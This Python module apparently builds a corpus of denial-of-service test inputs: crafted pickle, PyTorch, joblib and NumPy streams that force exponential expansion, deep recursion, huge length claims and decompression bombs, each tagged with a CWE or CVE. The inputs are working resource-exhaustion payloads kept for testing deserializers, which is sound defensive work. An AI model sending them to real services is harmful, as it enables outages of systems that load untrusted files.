"""Pickles that grow, nest or go on without end.

Written from the opcodes of CPython's `pickletools`, fickling issue 211 (expansion), CVE-2022-48560, CWE-400, 674, 776.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable, Iterator

from samples.build.archives import zip_of
from samples.denial import Load, file

_HEAD = b"\x80\x04"
_MANY = 5_000_000


def _laughs(begin: bytes, close: bytes) -> bytes:
    """Return 60 containers of ten times the one before."""
    steps = (begin + (b"h" + bytes([depth])) * 10 + close + b"\x94" for depth in range(60))
    return _HEAD + b"]\x94" + b"".join(steps) + b"."


def _nested_bytes() -> bytes:
    inner = _HEAD + b"N."
    for _ in range(400):
        inner = _HEAD + b"ctorch.storage\n_load_from_bytes\n(B" + struct.pack("<I", len(inner)) + inner + b"tR."
    return inner


def _globals() -> bytes:
    return _HEAD + b"".join(b"cm%d\nn%d\n0" % (number, number) for number in range(1_000_000)) + b"N."


def _calls() -> bytes:
    return _HEAD + b"ccollections\nOrderedDict\n)R0" * 800_000 + b"N."


def _dictionary() -> bytes:
    return _HEAD + b"}(" + b"".join(b"J" + struct.pack("<i", n) + b"K\1" for n in range(2_000_000)) + b"u."


def _torch(body: bytes) -> bytes:
    return zip_of({"archive/data.pkl": body, "archive/version": b"3\n"}, compress=True)


def _npy(body: bytes) -> bytes:
    head = b"{'descr': '|O', 'fortran_order': False, 'shape': (1000000000000,), }".ljust(117) + b"\n"
    return b"\x93NUMPY\x01\0" + struct.pack("<H", len(head)) + head + body


_STREAMS: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "laughs-lists": ("m.pkl", lambda: _laughs(b"](", b"e"), "fickling #211; CWE-776"),
    "laughs-tuples": ("m.pkl", lambda: _laughs(b"(", b"t"), "fickling #211; CWE-776"),
    "laughs-sets": ("m.pkl", lambda: _laughs(b"(", b"\x91"), "fickling #211; CWE-776"),
    "laughs-duplicates": ("m.pkl", lambda: _HEAD + b"N" + b"2\x86" * 2_000_000 + b".", "fickling #211; CWE-776"),
    "deep-marks": ("m.pkl", lambda: _HEAD + b"(" * 20_000_000 + b".", "CWE-674"),
    "deep-lists": ("m.pkl", lambda: _HEAD + b"]" * _MANY + b"a" * _MANY + b".", "CWE-674"),
    "deep-tuples": ("m.pkl", lambda: _HEAD + b"(" * _MANY + b"t" * _MANY + b".", "CWE-674"),
    "wide-stack": ("m.pkl", lambda: _HEAD + b"(" + b"N" * 30_000_000 + b"t.", "CWE-770"),
    "memo-puts": ("m.pkl", lambda: _HEAD + b"N" + b"\x94" * 30_000_000 + b".", "CWE-770"),
    "memo-numbers": (
        "m.pkl",
        lambda: _HEAD + b"N" + b"".join(b"r" + struct.pack("<I", n * 800) for n in range(_MANY)) + b".",
        "CVE-2020-10735 kin; CWE-770",
    ),
    "memo-lists": ("m.pkl", lambda: _HEAD + b"]\x940" * _MANY + b"N.", "CWE-770"),
    "memo-beyond": ("m.pkl", lambda: _HEAD + b"Nr\xff\xff\xff\xff" + b"p" + b"9" * 4000 + b"\n.", "CVE-2022-48560"),
    "length-text": ("m.pkl", lambda: _HEAD + b"\x8d" + struct.pack("<Q", 1 << 62) + b"a" * 100 + b".", "CWE-130"),
    "length-bytes": ("m.pkl", lambda: _HEAD + b"\x8e" + struct.pack("<Q", 1 << 63) + b"a" * 100 + b".", "CWE-130"),
    "length-frame": ("m.pkl", lambda: _HEAD + b"\x95" + struct.pack("<Q", 1 << 60) + b"N.", "CWE-130"),
    "length-integer": ("m.pkl", lambda: _HEAD + b"\x8b" + struct.pack("<i", (1 << 31) - 1) + b"\1" * 99, "CWE-130"),
    "long-integer": ("m.pkl", lambda: _HEAD + b"\x8b" + struct.pack("<i", 20 << 20) + b"\7" * (20 << 20) + b".",
                     "CVE-2020-10735"),
    "long-digits": ("m.pkl", lambda: b"L" + b"9" * (20 << 20) + b"L\n.", "CVE-2020-10735"),
    "many-digits": ("m.pkl", lambda: b"(" + (b"L" + b"9" * 4000 + b"L\n") * 8000 + b"t.", "CVE-2020-10735"),
    "endless-string": ("m.pkl", lambda: b"S'" + b"a" * (40 << 20), "CWE-400"),
    "endless-unicode": ("m.pkl", lambda: b"V" + b"\\u0041" * (6 << 20), "CWE-400"),
    "endless-name": ("m.pkl", lambda: b"c" + b"a." * (20 << 20), "CWE-400"),
    "many-names": ("m.pkl", lambda: b"(" + b"Sa\n" * 8_000_000 + b"t.", "CWE-400"),
    "many-streams": ("m.pkl", lambda: b"\x80\x04N." * 4_000_000, "CWE-770"),
    "many-frames": ("m.pkl", lambda: _HEAD + (b"\x95" + struct.pack("<Q", 2) + b"N0") * 2_000_000 + b"N.", "CWE-770"),
    "many-globals": ("m.pkl", _globals, "CWE-770"),
    "many-calls": ("m.pkl", _calls, "CWE-770"),
    "nested-calls": ("m.pkl", lambda: _HEAD + b"ccollections\nOrderedDict\n(" * 500_000 + b"tR" * 500_000 + b".",
                     "CWE-674"),
    "calls-of-calls": ("m.pkl", lambda: _HEAD + b"cbuiltins\ngetattr\n" + b")R" * _MANY + b".", "CWE-674"),
    "builds": ("m.pkl", lambda: _HEAD + b"ccollections\nOrderedDict\n)R" + b"Nb" * _MANY + b".", "CWE-770"),
    "persistent-ids": ("m.pkl", lambda: _HEAD + b"NQ0" * _MANY + b"N.", "CWE-770"),
    "extension-codes": ("m.pkl", lambda: _HEAD + b"\x82\x010" * _MANY + b"N.", "CWE-770"),
    "dictionary": ("m.pkl", _dictionary, "CWE-770"),
    "itself": ("m.pkl", lambda: _HEAD + b"]\x94" + b"h\0a" * _MANY + b".", "CWE-674"),
    "in-bytes": ("m.pkl", _nested_bytes, "CWE-674"),
    "in-torch": ("m.pt", lambda: _torch(_laughs(b"(", b"t")), "fickling #211; CWE-776"),
    "in-torch-deflated": ("m.pt", lambda: _torch(_HEAD + b"]\x940" * 50_000_000 + b"N."), "CWE-409"),
    "in-joblib": ("m.joblib", lambda: zlib.compress(_HEAD + b"(" + b"N\x94" * 60_000_000 + b"t.", 1), "CWE-409"),
    "in-npy": ("m.npy", lambda: _npy(_HEAD + b"]\x940" * _MANY + b"N."), "CWE-770"),
    "in-npy-nested-header": ("m.npy", lambda: b"\x93NUMPY\x02\0" + struct.pack("<I", 200_001) + b"(" * 200_000 + b"\n",
                             "CWE-674"),
    "in-npy-long-header": ("m.npy", lambda: b"\x93NUMPY\x02\0" + struct.pack("<I", 1 << 31) + b"{'a':" * 9000,
                           "CWE-130"),
}  # fmt: skip


def loads() -> Iterator[Load]:
    """Yield each pickle."""
    for name, (path, content, source) in _STREAMS.items():
        yield file(f"pickle-{name}", path, content, source)
